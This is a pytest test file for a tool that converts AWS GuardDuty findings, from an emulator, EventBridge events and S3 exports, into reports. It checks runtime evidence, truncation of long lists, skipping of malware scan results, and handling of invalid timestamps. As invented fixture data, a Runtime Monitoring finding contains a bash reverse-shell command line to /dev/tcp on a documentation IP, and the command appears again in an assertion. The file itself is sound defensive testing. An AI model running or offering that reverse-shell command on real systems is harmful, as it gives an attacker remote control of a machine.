"""The same finding through the real doors: `backfill` (real boto3 → GuardDuty emulator) against `send` of
EventBridge events and S3-export lines; Runtime evidence and long arrays in the summary; a Malware
Protection scan result skipped; a time that overflows is one invalid finding, not a stopped run."""

from __future__ import annotations

import copy
import json

import pytest

from tests.conftest import SAMPLES, write_jsonl
from tests.shapes import eventbridge, s3_export_line, with_doubled_info
from tests.sims.guardduty import GuardDutyEmulator, finding_to_wire, make_finding

REGION = "us-east-1"
SCAN_RESULT = SAMPLES / "eventbridge-s3-malware-object-scan-result.json"


@pytest.fixture
def gd():
    with GuardDutyEmulator() as emulator:
        yield emulator


@pytest.fixture
def bf(cli, gd, sim):
    cli.station(sim)
    cli.env["AWS_ENDPOINT_URL_GUARDDUTY"] = gd.url
    return cli


def _process(name: str, pid: int, start: str, **more) -> dict:
    return {"name": name, "executablePath": f"/usr/bin/{name}", "pid": pid, "namespacePid": pid - 4000,
            "userId": 33, "euid": 33, "startTime": start, "uuid": f"uuid-{pid}", "parentUuid": f"uuid-{pid - 1}",
            **more}


def runtime_finding(detector: str) -> dict:
    """A Runtime Monitoring reverse-shell finding with process, lineage and context (invented values)."""
    finding = make_finding(7001, detector_id=detector, type="Execution:Runtime/ReverseShell", severity=8.0)
    finding["title"] = "A process on EC2 instance opened a reverse shell."
    service = finding["service"]
    del service["action"]
    service["featureName"] = "RuntimeMonitoring"
    service["additionalInfo"] = {"agentDetails": {"agentVersion": "1.6.0"}, "threatListName": "Internal"}
    service["runtimeDetails"] = {
        "process": _process("bash", 4190, "2025-05-05T05:05:05.123Z", user="www-data", pwd="/var/www",
                            executableSha256="ab" * 32,
                            lineage=[_process("php-fpm", 4189, "2025-05-01T00:00:00.000Z"),
                                     _process("systemd", 4001, "2025-04-30T23:59:00.500Z")]),
        "context": {"commandLineExample": "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1",
                    "scriptPath": "/var/www/upload/x.sh", "toolName": "netcat", "toolCategory": "Reverse shell",
                    "addressFamily": "AF_INET", "ianaProtocolNumber": 6, "flags": ["O_RDWR"],
                    "modifiedAt": "2025-05-05T05:04:59.000Z",
                    "modifyingProcess": _process("curl", 4188, "2025-05-05T05:04:58.000Z")},
    }
    return finding


def port_probe_finding(detector: str, probes: int) -> dict:
    """A port probe finding with ``probes`` probes from ten addresses (few indicators, many entries)."""
    finding = make_finding(7002, detector_id=detector)
    details = finding["service"]["action"]["portProbeAction"]["portProbeDetails"]
    template = details[0]
    details[:] = []
    for index in range(probes):
        probe = copy.deepcopy(template)
        probe["localPortDetails"] = {"port": 1000 + index, "portName": "Unknown"}
        probe["remoteIpDetails"]["ipAddressV4"] = f"198.51.100.{index % 10 + 1}"
        details.append(probe)
    return finding


def _reports(result) -> dict:
    assert result.code == 0, result.stderr
    return {record["finding_id"]: record["report"] for record in result.records}


def test_backfill_events_and_s3_lines_give_the_same_reports_with_runtime_evidence_and_long_lists(bf, gd, tmp_path):
    detector = gd.add_detector(REGION)
    findings = [runtime_finding(detector), port_probe_finding(detector, 200), make_finding(7003, sample=True)]
    gd.add_findings(REGION, detector, findings)
    api = _reports(bf("backfill", "--region", REGION, "--dry-run", "--json", "--enclave-id", "enc-a"))
    events = write_jsonl(tmp_path / "events.jsonl", [eventbridge(with_doubled_info(f)) for f in findings])
    export = tmp_path / "export.jsonl"
    export.write_text("".join(s3_export_line(finding_to_wire(f)) + "\n" for f in findings))
    assert "E9" in export.read_text()  # nested times really are in scientific notation
    for path in (events, export):
        assert _reports(bf("send", "--dry-run", "--json", "--enclave-id", "enc-a", str(path))) == api
    runtime = api[findings[0]["id"]]["reportBody"].split("Full finding (JSON):")[0]
    for line in ("Process:", "  Name: bash", "  Start time: 2025-05-05T05:05:05.123Z", "  User: www-data",
                 "  - Parent process: Name: php-fpm; Executable path: /usr/bin/php-fpm; PID: 4189",
                 "Runtime context:", "  Command line example: bash -i >& /dev/tcp/198.51.100.77/4444 0>&1",
                 "  Tool name: netcat", "  Modifying process: curl", "  Modified at: 2025-05-05T05:04:59.000Z",
                 "  IANA protocol: 6", "  agentDetails: "):
        assert any(row.startswith(line) for row in runtime.splitlines()), line
    probe_body = api[findings[1]["id"]]["reportBody"]
    summary, appendix = probe_body.split("Full finding (JSON):\n")
    assert summary.count("  - Port probe: ") == 20
    assert "  … and 180 more port probes (all in the JSON below)" in summary.splitlines()
    assert len(json.loads(appendix)["service"]["action"]["portProbeAction"]["portProbeDetails"]) == 200
    assert "type: default" not in api[findings[2]["id"]]["reportBody"]
    assert "  sample: true" in api[findings[2]["id"]]["reportBody"]


def test_backfill_time_that_overflows_is_one_invalid_finding_and_the_run_goes_on(bf, gd, sim, tmp_path):
    detector = gd.add_detector(REGION)
    findings = [make_finding(i, detector_id=detector) for i in range(5)]
    findings[2]["service"]["eventFirstSeen"] = "9999-12-31T23:59:59-01:00"
    gd.add_findings(REGION, detector, findings)
    failures = tmp_path / "failures.jsonl"
    result = bf("backfill", "--region", REGION, "--json", "--failures", str(failures))
    assert result.code == 1, result.stderr
    assert result.actions() == {"created": 4, "invalid": 1}
    assert "unexpected" not in result.stderr and "Traceback" not in result.stderr
    [invalid] = [r for r in result.records if r["action"] == "invalid"]
    assert "eventFirstSeen" in invalid["error"] and invalid["origin"].endswith(findings[2]["id"])
    [line] = [json.loads(x) for x in failures.read_text().splitlines()]
    assert line["document"]["Id"] == findings[2]["id"]  # the finding itself, so it can be fixed and replayed
    assert sim.count("upsert") == 4
    replay = bf("send", "--dry-run", "--json", str(failures))
    assert replay.code == 1 and replay.actions() == {"invalid": 1}
    assert "eventFirstSeen" in replay.records[0]["error"]


def test_a_malware_scan_result_event_is_skipped_with_one_line_and_never_listed(cli, sim, tmp_path):
    scan = json.loads(SCAN_RESULT.read_text())
    bare = copy.deepcopy(scan["detail"])  # the same result without its envelope, in a JSON Lines file
    path = write_jsonl(tmp_path / "mixed.jsonl", [scan, eventbridge(make_finding(1)), bare])
    failures = tmp_path / "failures.jsonl"
    result = cli.station(sim)("send", "--json", "--failures", str(failures), str(path))
    assert result.code == 0, result.stderr
    assert result.actions() == {"skipped": 2, "created": 1}
    skipped = [r for r in result.records if r["action"] == "skipped"]
    assert [r["origin"] for r in skipped] == [f"{path}:1", f"{path}:3"]
    assert all("not a finding" in r["error"] and "invoice-8841.zip" in r["error"] for r in skipped)
    assert "GuardDuty Malware Protection Object Scan Result" in skipped[0]["error"]
    problem_lines = [x for x in result.stderr.splitlines() if x.startswith("gdtrustar: skipped:")]
    assert len(problem_lines) == 2 and "invalid" not in result.stderr
    assert failures.read_text() == ""  # asked for, so written, and empty: nothing was lost
    assert sim.count("upsert") == 1


def test_readme_dry_run_of_the_samples_exits_0_with_the_scan_result_skipped(cli):
    result = cli("send", "--dry-run", str(SAMPLES))
    assert result.code == 0, result.stderr
    assert "would be sent" in result.stdout
    assert "1 skipped" in result.stderr and "invalid" not in result.stderr
    excluded = cli("send", "--dry-run", "--json", "--exclude-samples", str(SAMPLES))
    assert excluded.code == 0
    skipped = [r for r in excluded.records if r["action"] == "skipped"]
    assert any("--exclude-samples" in r["error"] for r in skipped)
    assert any("not a finding" in r["error"] for r in skipped)
